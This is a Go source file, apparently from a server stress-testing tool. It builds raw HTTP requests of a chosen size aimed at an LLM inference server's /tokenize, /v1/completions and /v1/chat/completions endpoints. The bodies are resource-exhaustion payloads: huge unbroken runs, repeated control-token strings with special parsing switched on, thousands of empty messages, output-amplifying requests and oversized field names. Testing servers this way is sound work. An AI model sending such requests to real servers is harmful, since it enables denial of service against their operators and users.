package main

import (
	"fmt"
	"strings"
)

// sink is the kind that the server never sees.
const sink = "sink"

// bodies are what makes each kind of attack: a path, how the body begins and
// ends, and what fills it.
var bodies = map[string]struct{ path, head, fill, tail string }{
	// One run without a border: a pre-tokenizer's recursion, or one long merge.
	"run": {"/tokenize", `{"content":"`, "a", `"}`},
	// Each piece is a control token by its spelling.
	"specials": {"/tokenize", `{"content":"`, "<|im_start|><s>x", `","parse_special":true}`},
	// Each message costs the template, little text each.
	"messages": {"/v1/chat/completions", `{"max_tokens":1,"messages":[{"role":"user","content":"x"}`, `,{"role":"user","content":""}`, `]}`},
	// An answer that is many times its body.
	"pieces": {"/tokenize", `{"with_pieces":true,"content":"`, "a b\\n", `"}`},
	// Not to the server: somebody reads it and throws it away. What streams lose
	// beside that is the machine's doing.
	sink: {"/", `{"content":"`, "a", `"}`},
	// An unknown field, which the error wants to name.
	"key": {"/v1/completions", `{"prompt":"x","`, "k", `":1}`},
}

// attackMessage returns a whole HTTP request with a body of about size bytes.
func attackMessage(kind string, size int) ([]byte, error) {
	b, ok := bodies[kind]
	if !ok {
		return nil, fmt.Errorf("-attacks: %q is not a kind of body", kind)
	}
	n := max(1, (size-len(b.head)-len(b.tail))/len(b.fill))
	length := len(b.head) + n*len(b.fill) + len(b.tail)
	var message strings.Builder
	fmt.Fprintf(&message, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", b.path, length)
	message.WriteString(b.head)
	message.WriteString(strings.Repeat(b.fill, n))
	message.WriteString(b.tail)
	return []byte(message.String()), nil
}
